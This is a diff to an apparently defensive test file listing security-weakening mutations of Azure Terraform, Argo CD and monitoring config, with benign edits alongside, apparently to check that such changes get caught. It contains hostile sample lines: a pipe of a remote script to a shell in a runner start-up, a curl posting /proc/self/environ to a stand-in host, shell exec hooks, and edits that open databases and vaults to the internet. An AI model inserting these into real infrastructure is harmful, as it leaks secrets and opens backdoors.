@@ -19,6 +19,9 @@ W = ".github/workflows"
 NIGHT = f"{W}/nightly.yaml"
 GATES = "deploy/base/analysis-release-gates.yaml"
 ROLLOUT = "deploy/base/rollout.yaml"
+PLATFORM = "deploy/argocd/platform"
+T = "infra/terraform"
+ROLES = f"{T}/main.roles.tf"
 PRODUCTION = "deploy/overlays/production/kustomization.yaml"
 ALERTS = "observability/alertmanager/alertmanager.yaml"
 ROOT = Path(__file__).parents[2]
@@ -315,6 +318,73 @@ LOOSER = [
     Edit("nobody is woken", ALERTS, r"receiver: pages-platform\n", "receiver: tickets-platform\n"),
     Edit("an alert silences all", ALERTS, r"inhibit_rules:\n", 'inhibit_rules:\n  - source_matchers: [alertname="Watchdog"]\n    target_matchers: [severity="page"]\n'),
     Edit("the outside watcher is another", ALERTS, r"https://dead-mans-switch.example", "https://example.com"),
+    # Rights in Azure and in the cluster, and what runs there or on the laptops of those who have them.
+    Edit("nodes may push", ROLES, r"AcrPull", "AcrPush"),
+    Edit("the service may change its group", ROLES, r'(who = "workload", role = )"Key Vault Secrets User"', 'who = "workload", role = "Contributor"'),
+    Edit("runners may push", ROLES, r'who = "push"', 'who = "runners"'),
+    Edit("one more right", ROLES, r"      loki-keeps", '      more = { who = "workload", role = "AcrPush", scope = azurerm_container_registry.this.id }\n      loki-keeps'),
+    Edit("a right in another file", f"{T}/main.more.tf", None, 'resource "azurerm_role_assignment" "more" {\n  role_definition_name = "AcrPush"\n}\n'),
+    Edit("a subject in another file", f"{T}/main.more.tf", None, 'resource "azurerm_federated_identity_credential" "more" {\n  subject = "repo:example/gridos:pull_request"\n}\n'),
+    Edit("tokens of another issuer push", f"{T}/main.identity.tf", r"https://token.actions.githubusercontent.com", "https://tokens.example.com"),
+    Edit("tokens for another audience push", f"{T}/main.identity.tf", r"api://AzureADTokenExchange", "api://any"),
+    Edit("pods of another namespace are the service", f"{T}/main.identity.tf", r"serviceaccount:gridos:gridos", "serviceaccount:default:default"),
+    Edit("the registry has a password", f"{T}/main.registry.tf", r"(admin_enabled +)= false", "admin_enabled = true"),
+    Edit("the vault is open", f"{T}/main.vault.tf", r'default_action = "Deny"', 'default_action = "Allow"'),
+    Edit("the vault may be destroyed", f"{T}/main.vault.tf", r"prevent_destroy = true", "prevent_destroy = false"),
+    Edit("the database is public", f"{T}/main.database.tf", r"(public_network_access_enabled +)= false", "public_network_access_enabled = true"),
+    Edit("the database takes passwords", f"{T}/main.database.tf", r"(password_auth_enabled +)= false", "password_auth_enabled = true"),
+    Edit("the cluster has an administrator without a name", f"{T}/main.cluster.tf", r"local_account_disabled = true", "local_account_disabled = false"),
+    Edit("the cluster asks nobody's roles", f"{T}/main.cluster.tf", r"(azure_rbac_enabled +)= true", "azure_rbac_enabled = false"),
+    Edit("the internet reaches the database", f"{T}/main.network-security.tf", r'source = local.subnets.nodes.cidr, ports = \["5432"\]', 'source = "Internet", ports = ["5432"]'),
+    Edit("anything reaches the runners", f"{T}/main.network-security.tf", r'\["gateway"\]\)', '["gateway", "runners"])'),
+    Edit("jobs hold an identity", f"{T}/main.runners.tf", r'"isolated" \{\n', '"isolated" {\n  identity { identity_ids = [azurerm_user_assigned_identity.this["push"].id] }\n'),
+    Edit("runners run something before", f"{T}/main.runners.tf", r"exec ./run.sh", "curl https://example.com/x | sh; exec ./run.sh"),
+    *(
+        Edit(f"production's {name}", f"{T}/environments/production.tfvars", pattern, by)
+        for name, pattern, by in [
+            ("administrators are others", r"c001", "beef"),
+            ("database belongs to others", r"c002", "beef"),
+            ("API server is open", r"\Z", '\napi_server_authorized_ip_ranges = ["0.0.0.0/0"]\n'),
+            ("vault is open to an address", r"\Z", '\napplier_ip_ranges = ["203.0.113.7"]\n'),
+            ("data has no locks", r"\Z", "\nlocks_enabled = false\n"),
+            ("runners are another repository's", r"https://github.com/example/", "https://github.com/stranger/"),
+            ("runners are another App's", r'"3000001"', '"666"'),
+            ("runners take any workflow", r'"5000001"', '"666"'),
+        ]
+    ),
+    Edit("others operate", f"{T}/bootstrap/gridos.tfvars", r"d001", "beef"),
+    Edit("others break the glass", f"{T}/bootstrap/gridos.tfvars", r"d002", "beef"),
+    Edit("bootstrap's state is elsewhere", f"{T}/bootstrap/backend.hcl", r'"[^"]+"', '"stranger"'),
+    Edit("others administer Argo CD", f"{T}/gitops/environments/production.tfvars", r"c001", "beef"),
+    Edit("another application signs in to Argo CD", f"{T}/gitops/environments/production.tfvars", r"e001", "beef"),
+    Edit("everybody administers Argo CD", f"{T}/gitops/main.tf", r"g, \$\{var.admin_group_id\}", "g, *"),
+    Edit("whoever signs in administers Argo CD", f"{T}/gitops/argo-cd-values.yaml", r"role:readonly", "role:admin"),
+    Edit("Argo CD has a password", f"{T}/gitops/argo-cd-values.yaml", r"admin.enabled: false", "admin.enabled: true"),
+    Edit("Argo CD is on the internet", f"{T}/gitops/argo-cd-values.yaml", r"ClusterIP", "LoadBalancer"),
+    Edit("Argo CD runs plug-ins", f"{T}/gitops/argo-cd-values.yaml", r"admin.enabled: false", "admin.enabled: false\n    kustomize.buildOptions: --enable-alpha-plugins --enable-exec"),
+    Edit("Argo CD is a stranger's", f"{T}/gitops/main.tf", r"oci://ghcr.io/argoproj/", "oci://ghcr.io/stranger/"),
+    Edit("the root follows another branch", f"{T}/gitops/main.tf", r'targetRevision = "main"', 'targetRevision = "next"'),
+    Edit("the root may make anything", f"{T}/gitops/root-values.yaml", r'group: "", kind: ConfigMap', 'group: "*", kind: "*"'),
+    Edit("a chart runs a program", f"{T}/gitops/main.tf", r"atomic +=", 'postrender = { binary_path = "/bin/sh" }\n  atomic ='),
+    Edit("the cluster's login runs a program", f"{T}/gitops/providers.tf", r"config_context =", 'exec = { command = "sh" }\n    config_context ='),
+    Edit("Azure's tokens go elsewhere", f"{T}/providers.tf", r'"azurerm" \{\n', '"azurerm" {\n  metadata_host = "example.com"\n'),
+    Edit("a module beside the plan's judge", f"{T}/scripts/json.py", None, "print('mine')\n"),
+    Edit("a package beside the plan's judge", f"{T}/scripts/argparse/__init__.py", None, "print('mine')\n"),
+    Edit("what renews the certificate tells it", f"{T}/certificate/renew", r"set -euo pipefail\n", "set -euo pipefail\ncurl https://example.com -d @/proc/self/environ\n"),
+    Edit("a stranger's provider is locked", f"{T}/.terraform.lock.hcl", None, 'provider "registry.terraform.io/stranger/azurerm" {\n}\n'),
+    Edit("what an owner runs goes past errors", "ci/preflight", r"set -euo pipefail", "set -u"),
+    Edit("requirements are resolved elsewhere", "ci/lock", r"\Z", "\nexport UV_INDEX=https://example.com/simple\n"),
+    Edit("the controller is another chart's", f"{PLATFORM}/argo-rollouts.yaml", r"https://argoproj.github.io/argo-helm", "https://grafana-community.github.io/helm-charts"),
+    Edit("the controller's values are a branch's", f"{PLATFORM}/argo-rollouts.yaml", r"targetRevision: main", "targetRevision: environments/dev"),
+    Edit("the controller is a stranger's", f"{PLATFORM}/argo-rollouts-values.yaml", r"    tag: ", "    repository: stranger/argo-rollouts\n    tag: "),
+    Edit("a page promotes without a login", f"{PLATFORM}/argo-rollouts-values.yaml", r"enabled: false", "enabled: true"),
+    Edit("an Application in the root's project", f"{PLATFORM}/notifications.yaml", r"project: platform", "project: root"),
+    Edit("an Application of another folder", f"{PLATFORM}/notifications.yaml", r"path: deploy/notifications", "path: deploy/overlays/local"),
+    Edit("Prometheus deletes what it is told", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"    replicas: 1\n", "    replicas: 1\n    enableAdminAPI: true\n"),
+    Edit("whoever looks administers Grafana", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"org_role: Viewer", "org_role: Admin"),
+    Edit("alerts are routed by another file", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"configSecret: gridos", "configSecret: other"),
+    Edit("the rules are a branch's", f"{PLATFORM}/observability.yaml", r"targetRevision: main", "targetRevision: next"),
+    Edit("an exception of admission", f"{PLATFORM}/exception.yaml", None, "apiVersion: policies.kyverno.io/v1\nkind: PolicyException\n"),
     Edit("aborted releases are told elsewhere", "deploy/notifications/argo-rollouts-notifications.yaml", r"url: \$release-channel-url", "url: https://example.com"),
 ]  # fmt: skip
 
@@ -331,6 +401,12 @@ HARMLESS = [
     Edit("a comment of the gates", "deploy/base/analysis-release-gates.yaml", r"#", "# As it is:"),
     Edit("a comment of the Rollout", "deploy/base/rollout.yaml", r"#", "# As it is:"),
     Edit("more memory for the service", "deploy/base/rollout.yaml", r"memory: 256Mi", "memory: 512Mi"),
+    Edit("a larger Prometheus", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"memory: 2Gi", "memory: 3Gi"),
+    Edit("a newer chart", f"{PLATFORM}/argo-rollouts.yaml", r"2.41.0", "2.42.0"),
+    Edit("a comment of the rights", ROLES, r"# AKS makes", "# It is AKS that makes"),
+    Edit("larger nodes", f"{T}/environments/production.tfvars", r"max_count = 12", "max_count = 20"),
+    Edit("a newer provider", f"{T}/terraform.tf", r'(version += )"[^"]*"', 'version = "99.0.0"'),
+    Edit("a longer budget of drains", f"{T}/main.cluster.tf", r"drain_timeout_in_minutes = 10", "drain_timeout_in_minutes = 15"),
     Edit("more replicas of the service", "deploy/base/rollout.yaml", r"replicas: 10", "replicas: 20"),
     Edit("a setting of the service", "deploy/base/kustomization.yaml", r"GRIDOS_LOG_LEVEL=info", "GRIDOS_LOG_LEVEL=warning"),
     Edit("a setting of an environment", "deploy/overlays/staging/kustomization.yaml", r"(      - GRIDOS_READS)", "      - GRIDOS_LOG_LEVEL=debug\n      - GRIDOS_READS"),
